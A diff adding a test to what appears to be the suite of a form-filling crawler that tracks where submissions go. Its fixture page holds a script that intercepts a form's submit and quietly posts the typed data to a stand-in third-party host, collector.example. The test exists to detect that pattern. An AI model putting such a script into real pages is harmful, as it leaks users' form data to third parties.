@@ -129,3 +129,23 @@ test('a GET form puts what was typed into the address of the next page', async (
   expect(dry.filled.pageUrlsWithValues).toHaveLength(1);
   expect(dry.requests.filter(({ path }) => path.startsWith('/results') && path.includes('%40'))).toEqual([]);
 });
+
+test('what a script sends to a third party in place of a form is its submission, and a link may submit', async () => {
+  const injected = formPage(
+    `<form action="https://collector.example/in" method="post">${fields}<button>Join</button></form>`,
+    `document.forms[0].addEventListener('submit', e => { e.preventDefault(); fetch(e.target.action, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(e.target)) }); });`,
+  );
+  const run = await fillOn(siteWith(injected, () => ({ body: 'ok' })));
+  expect(submission(run).map(({ host, isTelemetry }) => [host, isTelemetry])).toEqual([
+    ['collector.example', false],
+  ]);
+  const linked = formPage(
+    `<form action="/join" method="post" id="f"><label>E-mail <input type="email" name="email"></label><label>Message <textarea name="text"></textarea></label><a href="javascript:post('send')">Send</a></form>`,
+    `function post() { document.forms[0].submit() }`,
+  );
+  const pressed = await fillOn(
+    siteWith(linked, () => ({ body: 'ok' })),
+    { submit: 'real' },
+  );
+  expect(results(pressed)).toEqual(['empty sent', 'full sent']);
+});
